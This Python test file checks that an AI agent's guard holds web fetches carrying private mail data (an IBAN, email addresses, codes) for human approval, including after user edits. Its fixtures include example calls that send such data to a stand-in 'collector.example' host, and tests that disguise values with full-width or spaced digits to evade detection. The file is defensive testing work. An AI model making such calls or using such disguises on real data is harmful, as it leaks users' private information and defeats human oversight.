"""An edit is checked for data leaving like a planned call, and disguised values still count.

The experts of `test_data_leaving`: `mail` reads an inbox holding an address, an IBAN and a
verification code; `web` fetches pages (with headers) and searches, read-only and open-world,
so only the data rule can hold its calls. Every call is recorded, so the tests check what was
really sent.
"""

from __future__ import annotations

from typing import Any

import pytest
from mcp.server.mcpserver import MCPServer
from mcp.types import ToolAnnotations

from common.mcp.inprocess import register_inprocess_server
from tests.unit_tests.guard_helpers import Executions, Expert, servers
from tests.unit_tests.helpers import Thread, plan, unique
from tests.unit_tests.test_data_leaving import READ_MAIL, mail_server, step

COLLECTOR = "https://collector.example/c?from=alice@example.com"
IBAN = "DE89370400440532013000"
WITH_IBAN = {"url": COLLECTOR, "headers": {"X-Acct": IBAN}}


def web_server() -> Expert:
    """Fetch a page, with optional headers, and search the web: both read and reach outside."""
    runs = Executions()
    mcp = MCPServer(unique("web"))
    reads = ToolAnnotations(readOnlyHint=True, openWorldHint=True)

    @mcp.tool(annotations=reads)
    def fetch(url: str, headers: dict[str, str] | None = None) -> str:
        """Fetch a web page."""
        runs.record("fetch", url=url, headers=headers)
        return "<html>ok</html>"

    @mcp.tool(annotations=reads)
    def search(query: str) -> str:
        """Search the web."""
        runs.record("search", query=query)
        return f"3 results for {query}"

    register_inprocess_server(mcp.name, mcp)
    return Expert(mcp.name, runs)


def thread_for(
    scripted: Any, then: dict[str, Any], interrupt_format: str = "hitl"
) -> tuple[Thread, Expert]:
    """A thread that reads the mail, then runs `then` (a step of `web`); and the web expert."""
    ctx, _ = scripted(planner=[plan(READ_MAIL, then)], response=["Done."] * 3)
    web = web_server()
    ctx["mcp_config"] = servers(mail=mail_server().entry(), web=web.entry())
    return Thread({**ctx, "interrupt_format": interrupt_format}), web


def fetch(args: dict[str, Any]) -> dict[str, Any]:
    """A direct step fetching with `args`, after the mail was read."""
    return step("t2", "web", "fetch", args, "t1")


async def held(thread: Thread) -> tuple[dict[str, Any], str]:
    """The one call the thread waits on, in either format: its arguments and why it is held."""
    (request,) = await thread.interrupts()
    if isinstance(request, list):
        (item,) = request
        return item["action_request"]["args"], item["description"]
    (action,) = request["action_requests"]
    return action["args"], action["description"]


def edit(interrupt_format: str, args: dict[str, Any]) -> Any:
    """An answer editing the held fetch into `args`, in the thread's format."""
    if interrupt_format == "agent_inbox":
        return [{"type": "edit", "args": {"action": "fetch", "args": args}}]
    return {"decisions": [{"type": "edit", "edited_action": {"name": "fetch", "args": args}}]}


def reason(description: str) -> str:
    """The gate's reason within a question's description."""
    return description[description.index("its argument") : description.index("(source: data)")]


def approve(interrupt_format: str) -> Any:
    """An answer approving the held call, in the thread's format."""
    if interrupt_format == "agent_inbox":
        return [{"type": "accept", "args": None}]
    return {"decisions": [{"type": "approve"}]}


# --- an edit that adds private data is asked about again -----------------------------------------


@pytest.mark.parametrize("interrupt_format", ["hitl", "agent_inbox"])
async def test_an_edit_adding_the_iban_in_a_header_is_asked_again_naming_it(
    scripted: Any, interrupt_format: str
) -> None:
    thread, web = thread_for(scripted, fetch({"url": COLLECTOR}), interrupt_format)
    await thread.send("Look up who wrote my last email.")
    _, why = await held(thread)
    assert "alice@example.com" in why
    assert IBAN.casefold() not in why.casefold()

    await thread.resume(edit(interrupt_format, WITH_IBAN))

    args, why = await held(thread)
    assert args == WITH_IBAN
    assert "asked about again" in why
    assert "'headers.X-Acct'" in why
    assert f"'{IBAN.casefold()}' of expert 'mail'" in why
    assert web.runs.calls == [], "the edit carrying the IBAN must not run unasked"

    await thread.resume(approve(interrupt_format))

    assert web.runs.calls == [("fetch", {"url": COLLECTOR, "headers": {"X-Acct": IBAN}})]


async def test_the_same_call_planned_directly_is_held_naming_both_values(scripted: Any) -> None:
    thread, web = thread_for(scripted, fetch(WITH_IBAN))
    await thread.send("Look up who wrote my last email.")

    _, why = await held(thread)

    assert "alice@example.com" in why
    assert IBAN.casefold() in why.casefold()
    assert web.runs.calls == []


@pytest.mark.parametrize("interrupt_format", ["hitl", "agent_inbox"])
async def test_an_edit_adding_nothing_private_runs_as_edited(
    scripted: Any, interrupt_format: str
) -> None:
    thread, web = thread_for(scripted, fetch({"url": COLLECTOR}), interrupt_format)
    await thread.send("Look up who wrote my last email.")
    edited = {"url": COLLECTOR, "headers": {"Accept-Language": "en", "X-Page": "2"}}

    await thread.resume(edit(interrupt_format, edited))

    assert await thread.interrupts() == []
    assert web.runs.calls == [("fetch", edited)]


CONTACTS = [f"a{c}@x.example" for c in "abcdefghij"]
"""Ten addresses of one length: a reason names the first seven and counts the others."""


def contacts_server() -> Expert:
    """An address book: every address in one result."""
    runs = Executions()
    mcp = MCPServer(unique("contacts"))

    @mcp.tool(annotations=ToolAnnotations(readOnlyHint=True, openWorldHint=False))
    def list_contacts() -> str:
        """List my contacts."""
        runs.record("list_contacts")
        return "Contacts: " + ", ".join(CONTACTS)

    register_inprocess_server(mcp.name, mcp)
    return Expert(mcp.name, runs)


async def test_an_edit_swapping_an_address_the_reason_only_counts_is_asked_again(
    scripted: Any,
) -> None:
    shown = {"url": "https://collector.example/?to=" + ";".join(CONTACTS[:9])}
    swapped = {"url": "https://collector.example/?to=" + ";".join([*CONTACTS[:8], CONTACTS[9]])}
    read = step("t1", "contacts", "list_contacts", {})
    ctx, _ = scripted(
        planner=[plan(read, step("t2", "web", "fetch", shown, "t1"))], response=["Done."]
    )
    web = web_server()
    ctx["mcp_config"] = servers(contacts=contacts_server().entry(), web=web.entry())
    thread = Thread(ctx)
    await thread.send("Send my contacts to the collector.")
    _, first = await held(thread)
    assert "and 2 more" in first

    await thread.resume(edit("hitl", swapped))

    args, why = await held(thread)
    assert args == swapped
    # The edit's reason reads as the question shown: only what it carries tells them apart.
    assert reason(why) == reason(first)
    assert web.runs.calls == [], "the edit sends an address nobody was shown"


# --- disguised values on the graph --------------------------------------------------------------


def full_width(text: str) -> str:
    """`text` in full-width letters and digits (U+FF01 to U+FF5E)."""
    return "".join(chr(ord(c) + 0xFEE0) for c in text)


FULL_WIDTH_IBAN = full_width(IBAN)


@pytest.mark.parametrize(
    ("args", "what"),
    [
        (
            {"url": f"https://collector.example/?acct={FULL_WIDTH_IBAN}"},
            "an IBAN, with look-alike or invisible Unicode characters",
        ),
        (
            {"url": "https://collector.example/", "headers": {"X-Code": "4 8 3 9 2 0"}},
            "a code, with separators inside its digits",
        ),
        (
            {
                "url": "https://collector.example/?c=4%E2%80%898%E2%80%893%E2%80%899%E2%80%892%E2%80%890"
            },
            "with look-alike or invisible Unicode characters, with separators inside its digits",
        ),
    ],
)
async def test_a_disguised_value_of_the_mail_in_a_fetch_is_held_naming_the_disguise(
    scripted: Any, args: dict[str, Any], what: str
) -> None:
    thread, web = thread_for(scripted, fetch(args))
    await thread.send("Read my last email, then open the collector page.")

    held_args, why = await held(thread)

    assert held_args == args
    assert "expert 'mail'" in why
    assert what in why
    assert web.runs.calls == []


async def test_ordinary_numbers_spread_out_in_a_fetch_still_run(scripted: Any) -> None:
    args = {
        "url": "https://shop.example/search?q=48 units&from=2026-11-24&to=2026-12-01",
        "headers": {"X-Page": "3", "X-Sizes": "4 8 12 16", "X-Year": full_width("2026")},
    }
    thread, web = thread_for(scripted, fetch(args))
    await thread.send("Read my last email, then search the shop.")

    assert await thread.interrupts() == []
    assert web.runs.calls == [("fetch", args)]
